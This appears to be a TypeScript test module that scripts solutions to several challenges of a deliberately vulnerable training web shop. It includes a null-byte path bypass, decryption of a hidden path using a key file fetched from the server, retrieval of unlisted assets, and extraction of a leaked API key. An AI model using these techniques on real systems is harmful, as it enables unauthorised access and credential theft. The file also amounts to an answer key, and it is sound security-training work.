import { createDecipheriv } from 'node:crypto'
import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { expectStatus } from '../../testing/attack-steps'
import { informTheShop } from '../../testing/feedback-posts'

const rot13 = (text: string) =>
  text.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.toLowerCase().charCodeAt(0) - 97 + 13) % 26) + 97))

/** eastere.gg (through the null byte) holds a base64 string; decoded and ROT13-shifted, it is a path. */
export async function nestedEasterEggPath(target: AttackTarget): Promise<string> {
  const egg = await request(target).get('/ftp/eastere.gg%2500.md').responseType('blob')
  const encoded = /^\s+([A-Za-z0-9+/=]{40,})$/m.exec(String(egg.body))?.[1] ?? ''
  return rot13(Buffer.from(encoded, 'base64').toString('utf8'))
}

/** The comment in the challenge's description, decrypted (AES-256-CBC) with the IV and key of premium.key, is a path. */
export async function premiumPath(target: AttackTarget): Promise<string> {
  const challenges = await request(target).get('/api/Challenges/?key=premiumPaywallChallenge')
  const ciphertext = /<!--(.+)-->/.exec(challenges.body.data[0].description)?.[1] ?? ''
  const [iv = '', key = ''] = (await request(target).get('/encryptionkeys/premium.key')).text.trim().split('.')
  const padded = (hex: string, bytes: number) => Buffer.concat([Buffer.from(hex, 'hex')], bytes)
  const decipher = createDecipheriv('aes-256-cbc', padded(key, 32), padded(iv, 16))
  return Buffer.concat([decipher.update(ciphertext, 'base64'), decipher.final()]).toString('utf8')
}

/** What a player reads out of a shipped file, told to the shop. */
export const CLUES = {
  // carousel picture 5.png carries a second picture in the lowest bit of each colour value
  hiddenImageChallenge: 'The orange grove picture of your carousel hides Pickle Rick in its low bits.',
  // /3rdpartylicenses.txt lists it among the web app's libraries
  typosquattingAngularChallenge: 'Your web app bundles ngy-cookie, an impostor of ngx-cookie.',
  // /ftp/package.json.bak pins eslint-scope 3.7.2
  supplyChainAttackChallenge: 'Your old build used eslint-scope 3.7.2, see https://github.com/eslint/eslint-scope/issues/39',
} as const

const informOf = (clue: string) => (target: AttackTarget) => informTheShop(target, clue)

export const hiddenAttacks = {
  easterEggLevelTwoChallenge: async (target) => request(target).get(await nestedEasterEggPath(target)),
  premiumPaywallChallenge: async (target) => request(target).get(await premiumPath(target)),
  // the 3D model named in the keychain photo's metadata lies next to the product photos
  retrieveBlueprintChallenge: (target) => request(target).get('/assets/public/images/products/JuiceShop.stl').buffer(true),
  // the language list hides the Klingon file, but it is served like the others
  extraLanguageChallenge: (target) => request(target).get('/assets/i18n/tlh_AA.json'),
  hiddenImageChallenge: informOf(CLUES.hiddenImageChallenge),
  typosquattingAngularChallenge: informOf(CLUES.typosquattingAngularChallenge),
  supplyChainAttackChallenge: informOf(CLUES.supplyChainAttackChallenge),
  // the social-media poster's configuration ships with the web app, key and all
  leakedApiKeyChallenge: async (target) => {
    const config = expectStatus(await request(target).get('/assets/public/social/autoposter.json'), 200)
    return informTheShop(target, `Revoke this key, it is public: ${config.body.apiKey}`)
  },
} satisfies Attacks
